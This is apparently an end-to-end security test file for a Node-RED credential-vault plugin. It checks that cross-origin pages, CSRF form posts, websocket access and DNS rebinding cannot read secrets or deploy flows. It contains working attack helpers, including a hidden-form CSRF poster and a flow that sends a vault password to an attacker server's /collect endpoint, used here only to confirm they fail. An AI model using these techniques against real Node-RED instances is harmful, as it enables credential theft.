/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { newId, sodiumReady } from '../../credentials';
import { launchChromium, openEditor } from '../helpers/browser';
import { NODE_RED_MAJOR, startNodeRed, type NodeRedProcess } from '../helpers/node-red';
import { fetchCall, VaultTestClient, type TestVault } from '../helpers/vault-client';

const CANARY = 'canary-cross-site-5c1e0b7a-secret';

/** The attacker's web server: a blank page, and /collect, where a deployed flow would send the secret. */
async function startAttackerSite(host: string): Promise<{ url: string; collected: string[]; close(): Promise<void> }> {
  const collected: string[] = [];
  const server: Server = createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      if (req.url?.startsWith('/collect')) collected.push(body || req.url);
      res.setHeader('content-type', 'text/html');
      res.end('<!doctype html><title>innocent page</title><p>nothing to see</p>');
    });
  });
  await new Promise<void>((r) => server.listen(0, host, r));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://${host === '127.0.0.1' ? 'localhost' : host}:${port}/`,
    collected,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

/**
 * The page read nothing: the vault guard's 403, or, on Node-RED 5 (which sends no CORS headers by
 * default any more), the browser's own block, which the page sees as a failed fetch (status 0).
 */
function assertRefused(what: string, res: { status: number; text: string }): void {
  if (NODE_RED_MAJOR >= 5 && res.status === 0) assert.match(res.text, /Failed to fetch/, what);
  else assert.equal(res.status, 403, `${what}: ${res.text}`);
}

/** What the attacker's page does with fetch: read, lock, deploy. Runs in the attacker's origin. */
function fetchAttack(page: Page, nr: string, vaultId: string, flows: unknown[]) {
  return page.evaluate(async ({ nr, vaultId, flows }) => {
    const attempt = async (method: string, path: string, body?: unknown) => {
      try {
        const res = await fetch(nr + path, {
          method, headers: body === undefined ? {} : { 'content-type': 'application/json' },
          body: body === undefined ? undefined : JSON.stringify(body),
        });
        return { status: res.status, text: await res.text() };
      } catch (e) {
        return { status: 0, text: String(e) };
      }
    };
    return {
      vaults: await attempt('GET', 'vault/vaults'),
      items: await attempt('GET', `vault/vaults/${vaultId}/items`),
      lock: await attempt('POST', `vault/vaults/${vaultId}/lock`, {}),
      getFlows: await attempt('GET', 'flows'),
      deploy: await attempt('POST', 'flows', flows),
    };
  }, { nr, vaultId, flows });
}

/** A plain HTML form posted into a hidden frame: no CORS, no preflight, just the user's browser. */
function formPost(page: Page, action: string, fields: [string, string][]): Promise<void> {
  return page.evaluate(({ action, fields }) => new Promise<void>((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = `f${Math.random().toString(36).slice(2)}`;
    document.body.appendChild(frame);
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = action;
    form.target = frame.name;
    for (const [name, value] of fields) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = name;
      input.value = value;
      form.appendChild(input);
    }
    document.body.appendChild(form);
    frame.addEventListener('load', () => resolve(), { once: true });
    form.submit();
  }), { action, fields });
}

/** Form fields that Node-RED's urlencoded parser (qs, extended) turns back into `value`. */
function qsFields(value: unknown, prefix = ''): [string, string][] {
  if (value === null || typeof value !== 'object') return [[prefix, String(value)]];
  return Object.entries(value as Record<string, unknown>).flatMap(([k, v]) => qsFields(v, prefix ? `${prefix}[${k}]` : k));
}

/** inject (on deploy) → Get Item → http request to the attacker: what the attack of issue 11 deployed. */
function stealingFlow(vaultId: string, itemId: string, collect: string): Record<string, unknown>[] {
  return [
    { id: 'evtab', type: 'tab', label: 'innocent' },
    { id: 'evvault', type: 'vault', name: 'v', vaultId },
    { id: 'evinject', type: 'inject', z: 'evtab', once: true, onceDelay: 0.1, repeat: '', topic: '', payload: '', payloadType: 'date', wires: [['evget']] },
    { id: 'evget', type: 'vault-get-item', z: 'evtab', vault: 'evvault', item: itemId, mode: 'field', field: 'password', property: 'payload', onLocked: 'fail', wires: [['evsend']] },
    { id: 'evsend', type: 'http request', z: 'evtab', method: 'POST', url: collect, ret: 'txt', wires: [[]] },
  ];
}

describe('e2e: a web page on another origin gets nothing from Node-RED (Chromium)', function () {
  this.timeout(240_000);
  let browser: Browser;

  before(async () => {
    await sodiumReady();
    browser = await launchChromium(['--host-resolver-rules=MAP rebind.test 127.0.0.1']);
  });
  after(() => browser?.close());

  async function seed(client: VaultTestClient): Promise<{ vault: TestVault; itemId: string }> {
    const vault = await client.createVault('Cross-site vault');
    const itemId = newId();
    const put = await client.putItem(vault, { id: itemId, name: 'Login', type: 'login', plain: { username: 'u' }, secret: { password: CANARY } });
    assert.equal(put.status, 200, JSON.stringify(put.body));
    assert.equal((await client.unlock(vault)).status, 200);
    return { vault, itemId };
  }

  describe('any Node-RED: the vault routes', () => {
    let nr: NodeRedProcess;
    let seeded: { vault: TestVault; itemId: string };

    before(async () => {
      nr = await startNodeRed();
      seeded = await seed(nr.client());
    });
    after(() => nr?.stop());

    for (const host of ['127.0.0.1', '127.0.0.2']) {
      it(`a page on ${host === '127.0.0.1' ? 'http://localhost' : `http://${host}`} reads no vault, item or secret, and cannot lock or create vaults`, async () => {
        const site = await startAttackerSite(host);
        const page = await browser.newPage();
        try {
          await page.goto(site.url);
          const got = await fetchAttack(page, nr.url, seeded.vault.id, []);
          for (const [what, res] of Object.entries({ vaults: got.vaults, items: got.items, lock: got.lock })) {
            assertRefused(what, res);
            assert.ok(!res.text.includes(seeded.vault.id) && !res.text.includes(seeded.itemId), `${what} leaks nothing`);
          }
          await formPost(page, `${nr.url}vault/vaults/${seeded.vault.id}/lock`, [['x', '1']]);
          const planted = newId();
          await formPost(page, `${nr.url}vault/vaults`, [['id', planted], ['name', 'Planted'], ['share', 'A'.repeat(43)], ['publicKey', 'A'.repeat(43)]]);
          const vaults = (await nr.client().call('GET', 'vault/vaults')).body as { id: string; unlocked: boolean }[];
          assert.equal(vaults.find((v) => v.id === seeded.vault.id)?.unlocked, true, 'still unlocked');
          assert.ok(!vaults.some((v) => v.id === planted), 'no vault planted');
          assert.match(nr.log, /refused a cross-site request/);
        } finally {
          await page.close();
          await site.close();
        }
      });
    }
  });

  describe('npm start: the whole admin API, /flows included', () => {
    let run: NodeRedProcess;
    let userDir: string;
    let base: string;
    let seeded: { vault: TestVault; itemId: string };

    before(async () => {
      userDir = mkdtempSync(join(tmpdir(), 'nr-vault-cross-site-'));
      run = await startNodeRed({ script: 'npm-start', userDir });
      base = run.url;
      seeded = await seed(new VaultTestClient(fetchCall(base)));
    });
    after(async () => {
      await run?.stop();
      rmSync(userDir, { recursive: true, force: true });
    });

    const deployedFlows = async () => JSON.stringify(await (await fetch(`${base}flows`, { headers: { accept: 'application/json' } })).json());

    it('a page on another origin cannot read or deploy flows, by fetch or by form, and receives no secret', async () => {
      const site = await startAttackerSite('127.0.0.2');
      const page = await browser.newPage();
      try {
        const before = await deployedFlows();
        const flows = stealingFlow(seeded.vault.id, seeded.itemId, `${site.url}collect`);
        await page.goto(site.url);
        const got = await fetchAttack(page, base, seeded.vault.id, flows);
        for (const [what, res] of Object.entries(got)) assertRefused(what, res);
        await formPost(page, `${base}flows`, qsFields({ flows }));
        assert.equal(await deployedFlows(), before, 'nothing was deployed');
        assert.deepEqual(site.collected, []);
        assert.ok(!(await page.content()).includes(CANARY));
      } finally {
        await page.close();
        await site.close();
      }
    });

    it('a page on another origin cannot open the editor\'s websocket (/comms) to listen to its events', async () => {
      const site = await startAttackerSite('127.0.0.2');
      const page = await browser.newPage();
      try {
        await page.goto(site.url);
        const ws = base.replace(/^http/, 'ws') + 'comms';
        const outcome = await page.evaluate((url) => new Promise<string>((resolve) => {
          const socket = new WebSocket(url);
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('error');
          socket.onclose = () => resolve('closed');
        }), ws);
        assert.notEqual(outcome, 'open');
      } finally {
        await page.close();
        await site.close();
      }
    });

    it('DNS rebinding: a host name that resolves to 127.0.0.1 gets 403 for the editor, the vault API and /flows', async () => {
      const port = new URL(base).port;
      const page = await browser.newPage();
      try {
        const nav = await page.goto(`http://rebind.test:${port}/`);
        assert.equal(nav?.status(), 403);
        const got = await fetchAttack(page, `http://rebind.test:${port}/`, seeded.vault.id, []);
        for (const [what, res] of Object.entries(got)) assert.equal(res.status, 403, `${what}: ${res.text}`);
      } finally {
        await page.close();
      }
    });

    it('the editor still works, also when opened from a link on another site', async () => {
      const site = await startAttackerSite('127.0.0.2');
      const page = await browser.newPage();
      try {
        await page.goto(site.url);
        await page.evaluate((to) => {
          const a = document.createElement('a');
          a.href = to;
          a.textContent = 'open Node-RED';
          document.body.appendChild(a);
        }, base);
        await Promise.all([page.waitForURL(base), page.click('a')]);
        await openEditor(page, base);
        const runtime = await page.evaluate(async () => (await fetch('vault/runtime')).json() as Promise<{ adminAuth: boolean; adminGuard: boolean }>);
        assert.deepEqual([runtime.adminAuth, runtime.adminGuard], [false, true]);
        const vaults = await page.evaluate(async () => (await fetch('vault/vaults')).status);
        assert.equal(vaults, 200, 'the editor\'s own requests are same-origin');
        const comms = await page.evaluate(() => new Promise<string>((resolve) => {
          const socket = new WebSocket(`${location.origin.replace(/^http/, 'ws')}/comms`);
          socket.onopen = () => { resolve('open'); socket.close(); };
          socket.onerror = () => resolve('error');
        }));
        assert.equal(comms, 'open', 'the editor\'s own websocket');
      } finally {
        await page.close();
        await site.close();
      }
    });
  });
});
